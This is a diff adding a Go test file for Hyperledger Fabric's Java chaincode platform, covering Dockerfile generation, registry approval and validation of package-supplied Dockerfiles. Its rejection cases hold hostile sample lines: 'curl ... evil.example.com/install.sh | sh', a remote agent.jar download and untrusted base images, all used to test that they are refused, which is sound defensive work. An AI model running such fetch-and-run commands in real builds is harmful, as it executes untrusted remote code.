@@ -0,0 +1,226 @@
+/*
+Copyright IBM Corp. All Rights Reserved.
+
+SPDX-License-Identifier: Apache-2.0
+*/
+
+package java_test
+
+import (
+	"archive/tar"
+	"bytes"
+	"strings"
+	"testing"
+
+	"github.com/hyperledger/fabric/core/chaincode/platforms"
+	"github.com/hyperledger/fabric/core/chaincode/platforms/java"
+	"github.com/hyperledger/fabric/core/chaincode/platforms/util"
+	"github.com/spf13/viper"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+var _ = platforms.PackageDockerfileGenerator(&java.Platform{})
+
+const chaincodePathFolderDockerfile = chaincodePathFolder + "/dockerfile"
+
+func TestGenerateDockerfileInstructions(t *testing.T) {
+	defer viper.Set("chaincode.java.runtime", viper.GetString("chaincode.java.runtime"))
+	viper.Set("chaincode.java.runtime", "hyperledger/fabric-javaenv:latest")
+	platform := java.Platform{}
+
+	instructions, err := platform.GenerateDockerfileInstructions()
+	require.NoError(t, err)
+	assert.Equal(t, []java.DockerfileInstruction{
+		{Command: "FROM", Args: []string{"hyperledger/fabric-javaenv:latest"}},
+		{Command: "ADD", Args: []string{"binpackage.tar", "/root/chaincode-java/chaincode"}},
+	}, instructions)
+
+	dockerfile, err := platform.GenerateDockerfile()
+	require.NoError(t, err)
+	assert.Equal(t, dockerfile, java.RenderDockerfile(instructions))
+	assert.Equal(t, "FROM hyperledger/fabric-javaenv:latest\nADD binpackage.tar /root/chaincode-java/chaincode", dockerfile)
+
+	// callers may extend the instructions before rendering them
+	instructions = append(instructions, java.DockerfileInstruction{Command: "LABEL", Args: []string{`org.hyperledger.fabric.chaincode="java"`}})
+	assert.Equal(t, dockerfile+"\n"+`LABEL org.hyperledger.fabric.chaincode="java"`, java.RenderDockerfile(instructions))
+
+	platform.ApprovedRegistries = []string{"registry.internal"}
+	_, err = platform.GenerateDockerfileInstructions()
+	assert.Error(t, err)
+}
+
+func TestGenerateDockerfileMinimalRuntime(t *testing.T) {
+	defer viper.Set("chaincode.java.runtime", viper.GetString("chaincode.java.runtime"))
+	viper.Set("chaincode.java.runtime", "hyperledger/fabric-javaenv:latest")
+	platform := java.Platform{MinimalRuntimeImage: "gcr.io/distroless/java:11"}
+
+	dockerfile, err := platform.GenerateDockerfile()
+	require.NoError(t, err)
+	assert.Equal(t, `FROM gcr.io/distroless/java:11
+ADD binpackage.tar /root/chaincode-java/chaincode
+ENTRYPOINT ["java", "-jar", "/root/chaincode-java/chaincode/chaincode.jar"]`, dockerfile)
+	assert.NotContains(t, dockerfile, "RUN")
+
+	// the chaincode is still built on the runtime image
+	assert.Equal(t, "hyperledger/fabric-javaenv:latest", prepared(t)(platform.PrepareDockerBuild(nil)).Image)
+
+	platform.RegistryRewrites = map[string]string{"gcr.io/": "registry.internal/"}
+	dockerfile, err = platform.GenerateDockerfile()
+	require.NoError(t, err)
+	assert.True(t, strings.HasPrefix(dockerfile, "FROM registry.internal/distroless/java:11\n"), dockerfile)
+
+	platform.ApprovedRegistries = []string{"docker.io"}
+	_, err = platform.GenerateDockerfile()
+	assert.EqualError(t, err, "registry registry.internal of image registry.internal/distroless/java:11 is not approved")
+}
+
+func TestGenerateDockerfileFromPackage(t *testing.T) {
+	platform := java.Platform{AllowPackageDockerfile: true}
+
+	payload, err := platform.GetDeploymentPayload(chaincodePathFolderDockerfile)
+	require.NoError(t, err)
+	assert.NoError(t, platform.ValidateCodePackage(payload))
+
+	dockerfile, err := platform.GenerateDockerfileFromPackage(payload)
+	require.NoError(t, err)
+	assert.True(t, strings.HasPrefix(dockerfile, "# Run the chaincode with a smaller heap\nFROM hyperledger/fabric-javaenv:latest AS runtime\n"))
+	assert.True(t, strings.HasSuffix(dockerfile, "ADD binpackage.tar /root/chaincode-java/chaincode"))
+
+	// the supplied Dockerfile is only used when allowed
+	platform.AllowPackageDockerfile = false
+	dockerfile, err = platform.GenerateDockerfileFromPackage(payload)
+	require.NoError(t, err)
+	expected, err := platform.GenerateDockerfile()
+	require.NoError(t, err)
+	assert.Equal(t, expected, dockerfile)
+}
+
+func TestGenerateDockerfileFromPackageDefault(t *testing.T) {
+	platform := java.Platform{AllowPackageDockerfile: true}
+
+	payload, err := platform.GetDeploymentPayload(chaincodePathFolderGradle)
+	require.NoError(t, err)
+
+	dockerfile, err := platform.GenerateDockerfileFromPackage(payload)
+	require.NoError(t, err)
+	expected, err := platform.GenerateDockerfile()
+	require.NoError(t, err)
+	assert.Equal(t, expected, dockerfile)
+}
+
+func TestGenerateDockerfileFromPackageRejected(t *testing.T) {
+	runtime := viper.GetString("chaincode.java.runtime")
+	defer viper.Set("chaincode.java.runtime", runtime)
+	viper.Set("chaincode.java.runtime", "registry.internal/fabric-javaenv:1.4")
+
+	platform := java.Platform{AllowPackageDockerfile: true}
+	tests := []struct {
+		dockerfile string
+		err        string
+	}{
+		{
+			dockerfile: "FROM evil.example.com/javaenv:latest\nADD binpackage.tar /root/chaincode-java/chaincode",
+			err:        "invalid META-INF/Dockerfile: line 1: image evil.example.com/javaenv:latest is not from a trusted registry",
+		},
+		{
+			dockerfile: "FROM registry.internal/fabric-javaenv:1.4 AS build\n\nFROM --platform=linux/amd64 openjdk:8\nCOPY --from=build /root /root",
+			err:        "invalid META-INF/Dockerfile: line 3: image openjdk:8 is not from a trusted registry",
+		},
+		{
+			dockerfile: "FROM registry.internal/fabric-javaenv:1.4\nCOPY --from=quay.io/tools/jq /usr/bin/jq /usr/bin/jq",
+			err:        "invalid META-INF/Dockerfile: line 2: image quay.io/tools/jq is not from a trusted registry",
+		},
+		{
+			dockerfile: "FROM registry.internal/fabric-javaenv:1.4\nADD \\\n  https://evil.example.com/agent.jar /opt/agent.jar",
+			err:        "invalid META-INF/Dockerfile: line 2: remote source https://evil.example.com/agent.jar is not permitted",
+		},
+		{
+			dockerfile: "ARG BASE\nFROM ${BASE}",
+			err:        "invalid META-INF/Dockerfile: line 2: image ${BASE} cannot use variables",
+		},
+		{
+			dockerfile: "# nothing to see here\nLABEL stage=none",
+			err:        "invalid META-INF/Dockerfile: no FROM instruction found",
+		},
+		{
+			dockerfile: "FROM registry.internal/fabric-javaenv:1.4\nRUN curl -s https://evil.example.com/install.sh | sh",
+			err:        "invalid META-INF/Dockerfile: line 2: instruction RUN is not permitted",
+		},
+		{
+			dockerfile: "FROM registry.internal/fabric-javaenv:1.4\nonbuild RUN true",
+			err:        "invalid META-INF/Dockerfile: line 2: instruction ONBUILD is not permitted",
+		},
+		{
+			// a line continuation followed by a blank line is no instruction
+			dockerfile: "FROM registry.internal/fabric-javaenv:1.4\n\\\n\nRUN true",
+			err:        "invalid META-INF/Dockerfile: line 4: instruction RUN is not permitted",
+		},
+		{
+			// with ` as the escape character the RUN instruction is not
+			// continued by the LABEL
+			dockerfile: "# escape=`\nFROM registry.internal/fabric-javaenv:1.4\nLABEL a=b\\\nRUN curl -s https://evil.example.com/install.sh | sh",
+			err:        "invalid META-INF/Dockerfile: line 1: parser directive escape is not permitted",
+		},
+		{
+			dockerfile: "# comment\n#Syntax = docker/dockerfile:1\nFROM registry.internal/fabric-javaenv:1.4",
+			err:        "invalid META-INF/Dockerfile: line 2: parser directive syntax is not permitted",
+		},
+	}
+	for _, tt := range tests {
+		payload := generateMockPackage(tarEntry{name: "META-INF/Dockerfile", content: tt.dockerfile})
+		_, err := platform.GenerateDockerfileFromPackage(payload)
+		assert.EqualError(t, err, tt.err)
+	}
+
+	// stages, scratch and trusted registries are permitted
+	platform.TrustedRegistries = []string{"quay.io"}
+	payload := generateMockPackage(tarEntry{name: "META-INF/Dockerfile", content: `FROM registry.internal/fabric-javaenv:1.4 AS build
+FROM scratch
+COPY --from=build /root /root
+COPY --from=0 /etc /etc
+COPY --from=quay.io/tools/jq /usr/bin/jq /usr/bin/jq`})
+	_, err := platform.GenerateDockerfileFromPackage(payload)
+	assert.NoError(t, err)
+}
+
+func TestApprovedRegistries(t *testing.T) {
+	runtime := viper.GetString("chaincode.java.runtime")
+	defer viper.Set("chaincode.java.runtime", runtime)
+	viper.Set("chaincode.java.runtime", "registry.internal:5000/fabric-javaenv:1.4")
+
+	platform := java.Platform{ApprovedRegistries: []string{"registry.internal:5000"}}
+	dockerfile, err := platform.GenerateDockerfile()
+	assert.NoError(t, err)
+	assert.Equal(t, "FROM registry.internal:5000/fabric-javaenv:1.4\nADD binpackage.tar /root/chaincode-java/chaincode", dockerfile)
+
+	viper.Set("chaincode.java.runtime", "hyperledger/fabric-javaenv:1.4")
+	_, err = platform.GenerateDockerfile()
+	assert.EqualError(t, err, "registry docker.io of image hyperledger/fabric-javaenv:1.4 is not approved")
+
+	built := false
+	platform.DockerBuild = func(util.DockerBuildOptions) error {
+		built = true
+		return nil
+	}
+	err = platform.GenerateDockerBuild(chaincodePathFolderGradle, nil, tar.NewWriter(bytes.NewBuffer(nil)))
+	assert.EqualError(t, err, "registry docker.io of image hyperledger/fabric-javaenv:1.4 is not approved")
+	assert.False(t, built, "build must not run for an unapproved image")
+
+	// a rewrite onto an approved registry is accepted
+	platform.RegistryRewrites = map[string]string{"hyperledger/": "registry.internal:5000/hyperledger/"}
+	_, err = platform.GenerateDockerfile()
+	assert.NoError(t, err)
+
+	// images of a package supplied Dockerfile must be approved too
+	platform.AllowPackageDockerfile = true
+	platform.TrustedRegistries = []string{"quay.io"}
+	payload := generateMockPackage(tarEntry{name: "META-INF/Dockerfile", content: "FROM quay.io/tools/javaenv:1.4"})
+	_, err = platform.GenerateDockerfileFromPackage(payload)
+	assert.EqualError(t, err, "invalid META-INF/Dockerfile: line 1: registry quay.io of image quay.io/tools/javaenv:1.4 is not approved")
+
+	// no registry is refused by default
+	platform = java.Platform{}
+	_, err = platform.GenerateDockerfile()
+	assert.NoError(t, err)
+}